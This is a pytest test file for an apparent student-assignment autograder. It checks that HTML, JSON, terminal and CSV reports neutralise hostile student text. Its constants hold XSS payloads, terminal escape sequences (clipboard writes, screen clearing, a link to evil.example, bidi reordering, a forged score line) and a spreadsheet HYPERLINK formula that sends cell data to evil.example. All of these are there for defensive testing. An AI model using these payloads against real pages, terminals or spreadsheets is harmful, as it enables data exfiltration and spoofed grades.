"""Text that wants to act: in the terminal, the page, the spreadsheet, the file of a machine."""

import csv
import io
import json
import re
import shutil
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from nngrader.evidence import Evidence, KerasWarning, LossSpec, Mishap, Place, StageError
from nngrader.executors.local import Local
from nngrader.grades import Explained, GradeReport
from nngrader.grading import grade
from nngrader.reports import html, text
from nngrader.reports import json as as_json
from nngrader.untrusted import for_csv, from_csv
from tests import builders
from tests.executors.hand_ins import RIGHT, right, xor
from tests.reports.reading import read

pytest_plugins = ["pytester"]

SCRIPTS = (
    '</code></pre></title></style><script>document.title="owned"</script>'
    "<img src=x onerror=\"document.title='owned'\"><svg onload=\"document.title='owned'\">"
    '" \' onmouseover="document.title=\'owned\'" autofocus onfocus="document.title=\'owned\'" x="'
    "{{ 7 * 191 }}{% raw %}javascript:document.title='owned'"
)
#: Colour, clearing, title, clipboard, link; C1 forms; overwriting, deleting and reordering.
COMMANDS = (
    "\x1b[31m\x1b[2J\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b]8;;https://evil.example\x1b\\here"
    "\x1b]8;;\x1b\\\x9b31m\x9d0;owned\x9c\x90q\x9c\rScore: 10 of 10\x08\x08\x7f\u202e\u2066"
)
#: All that controls a terminal or reorders text, but the line break.
ACTS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SURROGATE = re.compile("[\ud800-\udfff]")


def everywhere(hostile: str) -> GradeReport:
    """A report with a text wherever a student's can be."""
    ill = builders.evidence(
        student=hostile,
        output=hostile + "\n",
        source=(hostile,),
        model=builders.model(
            layers=(builders.layer(type=hostile, activation=hostile),),
            metrics=(hostile,),
            loss=LossSpec(hostile),
        ),
        runs=(builders.run(history={hostile: (1.0,), "loss": (0.5,)}, why_fit=hostile),),
        warnings=(KerasWarning(hostile, hostile, Place(1)),),
        error=StageError("train", hostile, hostile, Place(1)),
        versions={hostile: hostile},
        classes=(hostile, hostile),
        self_reported=hostile,
    )
    lost = builders.criterion(because=hostile, hint=hostile, why=hostile, points=1.0)
    found = builders.finding(message=hostile, hint=hostile)
    report = builders.report(
        ill, student=hostile, criteria=(lost,), findings=(found,), first_step=hostile
    )
    again = replace(report.reproduction, command=hostile, data=hostile, arrays={hostile: hostile})
    told = (Explained(hostile, hostile),)
    return replace(report, warnings=told, notes=(hostile,), reproduction=again)


def test_a43_scripts_are_shown_and_never_tags() -> None:
    """In texts, attributes, title and pictures."""
    page = html.render(everywhere(SCRIPTS))

    seen = read(page)
    assert seen.faults == []
    assert not {"script", "img"} & {*seen.tags}
    assert "onerror" not in re.sub(r">[^<]*<", "><", page)
    assert "1337" not in page
    assert seen.addresses == []


@pytest.mark.browser
@pytest.mark.skipif(not shutil.which("chromium"), reason="chromium is not installed")
def test_a43_a_browser_runs_nothing(tmp_path: Path) -> None:
    """Its title is still the student's name, even without the page's own policy against scripts."""
    from tests.reports.test_browser import CHROMIUM, titled

    page = html.render(everywhere(SCRIPTS))
    bare = re.sub(r"<meta http-equiv[^>]*>", "", page)
    twin = bare.replace("</main>", "<script>document.title='owned'</script></main>")

    assert CHROMIUM
    assert titled(page, tmp_path).startswith("</code></pre></title>")
    assert titled(bare, tmp_path).startswith("</code></pre></title>")
    assert titled(twin, tmp_path) == "owned"


def test_a44_terminal_commands_do_not_reach_the_terminal() -> None:
    """The short form holds the words without the commands, and no line of the student's making."""
    shown = text.render(everywhere(COMMANDS), width=200, report_path="graded/s07.html")

    assert shown == (
        "Teach a network XOR: here Score: 10 of 10\n"
        "Note: here Score: 10 of 10\n"
        "The code stopped with an error (line 1): `train` stopped with here Score: 10 of 10. "
        "What came before it was graded. here Score: 10 of 10: here Score: 10 of 10\n"
        "  1/2  The network has a hidden layer\n"
        "       here Score: 10 of 10 here Score: 10 of 10\n"
        "Score: 1 of 2 points\n"
        "First: here Score: 10 of 10\n"
        "Look: Count the units of the last layer.\n"
        "Report: graded/s07.html\n"
    )


def test_a44_a_file_shown_in_a_terminal_commands_nothing() -> None:
    """Teachers `cat` reports, too."""
    report = everywhere(COMMANDS)

    assert not ACTS.search(html.render(report))
    assert not ACTS.search(as_json.render(report))


def test_a44_names_of_files_do_not_reach_the_terminal_nor_the_xml_of_pytest(
    pytester: pytest.Pytester,
) -> None:
    """A folder that turns everything red, a file that writes a line of its own, and one that
    would stand under another student's name."""
    folder = pytester.path / "\x1b[31mred\u202e"
    folder.mkdir()
    for path in (folder / "xor.py", pytester.path / "ok\n4 of 4 \x1b]0;x\x07.py"):
        path.write_text(RIGHT + "\ndef train(:\n")
    (pytester.path / "bob.py::Dense.py").write_text(RIGHT + "\ndef train(:\n")

    result = pytester.runpytest_subprocess(
        "--grade", "--assignment", "xor", "-vv", "-rA", "--tb=short", "--junitxml=out.xml"
    )

    shown = result.stdout.str() + result.stderr.str()
    assert result.ret == 1
    assert not ACTS.search(shown)
    assert r"\x1b[31mred\u202e/xor.py::" in shown
    assert r"ok\n4 of 4 \x1b]0;x\x07.py::" in shown
    assert r"bob.py:\x3aDense.py::" in shown
    written = (pytester.path / "out.xml").read_text(encoding="utf-8")
    assert not ACTS.search(written)
    assert {case.get("classname") for case in ET.fromstring(written).iter("testcase")} == {
        r"\x1b[31mred\u202e.xor",
        r"ok\n4 of 4 \x1b]0;x\x07",
        r"bob.py:\x3aDense",
    }


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "'="])
def test_a45_a_name_is_no_formula_in_a_spreadsheet(begin: str) -> None:
    """It comes back as it was, less what is no text; points stay numbers."""
    name = begin + 'HYPERLINK("https://evil.example?"&A1;"marks")'
    file = io.StringIO()
    csv.writer(file).writerow([for_csv(name), for_csv(-0.5)])

    [[student, points]] = csv.reader(io.StringIO(file.getvalue()))

    assert student.startswith("'")
    assert from_csv(student) == name.replace("\t", " ").replace("\r", " ").replace("\n", " ")
    assert float(points) == -0.5


def test_a55_lone_surrogates_are_printable_everywhere() -> None:
    """Page, file and terminal can be encoded, and the file is JSON that all parsers read."""
    report = everywhere("half \ud83d of a pair \udcff")

    page, document = html.render(report), as_json.render(report)
    shown = text.render(report, width=80, report_path="graded/half \udcff.html")

    assert not any(SURROGATE.search(told) for told in (page, document, shown))
    assert json.loads(document.encode())["student"] == "half  of a pair "


def test_f05_a_hundred_thousand_lines_of_progress_leave_the_report_small() -> None:
    """The page shows the last lines; the file for machines holds none."""
    usual = builders.evidence(runs=())
    line = "\r 1/60 [=====>......................] - ETA: 0s - loss: 0.2531 - accuracy: 0.9\n"
    much = replace(usual, output="".join(f"{number}{line}" for number in range(100_000)))

    page = html.render(builders.report(much))

    assert len(page) < len(html.render(builders.report(usual))) + 8_000
    assert "99999" in page
    assert "99900" not in page
    assert as_json.render(builders.report(much)) == as_json.render(builders.report(usual))


def test_a28_a_line_without_an_end_leaves_the_report_small() -> None:
    """Twenty megabytes in one line, and as many in every other place."""
    much = "A" * 20_000_000

    report = everywhere(much)

    assert len(html.render(report)) < 200_000
    assert len(as_json.render(report)) < 40_000
    assert len(text.render(report, width=80, report_path="graded/s07.html")) < 10_000


def test_a28_a_hundred_thousand_layers_and_packages_leave_the_report_small() -> None:
    """Many short texts are cut as well as long ones."""
    layers = (builders.layer(),) * 100_000
    metrics = tuple(f"m{number}" for number in range(100_000))
    versions = dict.fromkeys(metrics, "1")
    many = builders.evidence(
        runs=(), model=builders.model(layers=layers, metrics=metrics), versions=versions
    )

    report = builders.report(many)

    assert len(html.render(report)) < 400_000
    assert len(as_json.render(report)) < 400_000


SHOUTING = (
    "    print('\\x1b]52;c;b3duZWQ=\\x07' + '\\x1b[2J<script>\\u202e' + '\\ud83d\\n' * 3, flush=True)\n"
    "    import warnings; warnings.warn('\\x1b[31m\\u202e<script>')\n"
    "    raise type('\\x1b[2JStop\\u202e', (Exception,), {})('\\x1b]0;owned\\x07=1+1\\ud83d<script>')\n"
)


@pytest.mark.sandbox
@pytest.mark.keras
def test_a44_what_a_real_submission_says_is_harmless_in_the_evidence_already(local: Local) -> None:
    """Tests beside an assignment and whatever stores evidence see it as the reports do."""
    hand_in = right("def build_model():\n", "def build_model():\n" + SHOUTING)
    hand_in = replace(hand_in, code=hand_in.code.replace("'\\ud83d\\n' * 3", "'\\n' * 3"))
    outcome = local.examine(hand_in, xor())

    assert isinstance(outcome, Mishap)
    seen = outcome.captured
    assert isinstance(seen, Evidence)
    assert seen.error is not None
    assert (seen.error.kind, seen.error.message) == ("Stop", r"=1+1\ud83d<script>")
    assert "<script>\n\n\n" in seen.output
    assert not ACTS.search(repr_free(outcome))
    page = html.render(grade(xor(), outcome, "pytest --grade xor.py"))
    assert "<script" not in page
    assert not ACTS.search(page)


def repr_free(outcome: Mishap) -> str:
    """Every text of an outcome, as it is and not as Python would escape it."""
    error, warnings = outcome.captured.error, outcome.captured.warnings
    told = [outcome.message, outcome.captured.output, *(w.message for w in warnings)]
    return "\n".join([*told, *outcome.captured.source, error.message if error else ""])
